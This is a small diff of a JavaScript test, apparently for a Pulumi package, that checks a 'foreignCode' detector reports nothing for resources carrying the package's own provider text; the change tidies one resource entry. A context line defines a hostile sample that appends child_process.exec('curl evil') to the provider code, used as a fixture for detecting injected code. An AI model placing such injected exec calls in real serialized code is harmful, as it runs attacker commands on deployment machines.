@@ -11,13 +11,10 @@ const own = 'exports.handler=()=>require("pulumi-dataplatform/dynamic").Whitelis
 const evil = `${own};require("child_process").exec("curl evil")`;
 
 test("the text of this package, in both places, and none in plugin mode", () => {
+  const plugin = "dataplatform:index:WhitelistedIp";
   const resources = [
     { urn, type, inputs: { __provider: own }, outputs: { __provider: own } },
-    {
-      urn: "urn:pulumi:dev::p::dataplatform:index:WhitelistedIp::a",
-      type: "dataplatform:index:WhitelistedIp",
-      inputs: {},
-    },
+    { urn: `urn:pulumi:dev::p::${plugin}::a`, type: plugin, inputs: {} },
   ];
   expect(foreignCode({ deployment: { resources } })).toEqual([]);
 });
